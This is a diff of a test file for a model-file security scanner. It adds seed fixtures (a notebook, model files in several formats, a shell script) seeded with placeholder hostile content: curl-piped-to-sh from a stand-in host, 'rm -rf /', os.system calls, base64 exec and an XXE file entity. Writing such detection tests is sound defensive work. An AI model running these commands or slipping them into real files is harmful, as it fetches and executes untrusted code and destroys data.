@@ -34,11 +34,16 @@ const SCHEMA = node('Pipeline', 'ObjectNode', node('dict', 'DictNode', { steps: 
 const NOTEBOOK = { nbformat: 4, nbformat_minor: 5, metadata: { kernelspec: { name: 'python3' } }, cells: [{ cell_type: 'code', source: ['!curl -s http://x.test/a | sh\n', 'import os'], outputs: [{ data: { 'text/html': '<script>x()</script>' } }] }, { cell_type: 'markdown', source: '# <b>a</b>' }] };
 const GRAPH = field(2, field(1, Uint8Array.from([...field(1, utf8('n')), ...field(2, utf8('WriteFile')), ...field(5, Uint8Array.from([...field(1, utf8('a')), ...field(2, field(2, utf8('os.system("x")')))]))])));
 
+const UBJSON = Uint8Array.from([...utf8('{i\x07learner{i\x01a'), ...utf8('Si\x0eos.system("x")'), ...utf8('i\x01n[$d#l'), 0, 0, 0, 2, ...new Uint8Array(8), ...utf8('i\x01m[#i\x02ZTi\x01o[i'), 5, ...utf8(']}}')]);
+const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0, ...utf8('IEND'), 0xae, 0x42, 0x60, 0x82]);
+
 const SEEDS: readonly (readonly [path: string, content: Uint8Array, families: readonly Analysis[]])[] = [
   ['model.skops', zipSync({ 'schema.json': json(SCHEMA) }, { level: 0 }), [skops]],
   ['demo.ipynb', json(NOTEBOOK), [notebooks, configuration]],
   ['model.pmml', utf8('<?xml version="1.0"?><!DOCTYPE m [<!ENTITY e SYSTEM "file:///x">]><PMML><!-- a --><Extension value="&lt;script&gt;"/><![CDATA[ b ]]></PMML>'), [markup]],
   ['model.xml', utf8('<?xml version="1.0"?><net name="m"><layers><layer id="0" type="Custom" library="a.so"/></layers></net>'), [markup]],
+  ['model.ubj', UBJSON, [programs]],
+  ['a.png', PNG, []],
   ['model.txt', utf8('tree\nversion=v4\nnum_class=1\nTree=0\nleaf_value=0.1\nnote=os.system("x")\nrm -rf /\n'), [programs]],
   ['run.sh', utf8('#!/bin/sh\ncurl -s http://x.test/a | sh\nexec(base64.b64decode("eA=="))\n'), [programs]],
   ['saved_model.pb', Uint8Array.from([8, 1, ...field(2, GRAPH)]), [tensorflowOps]],
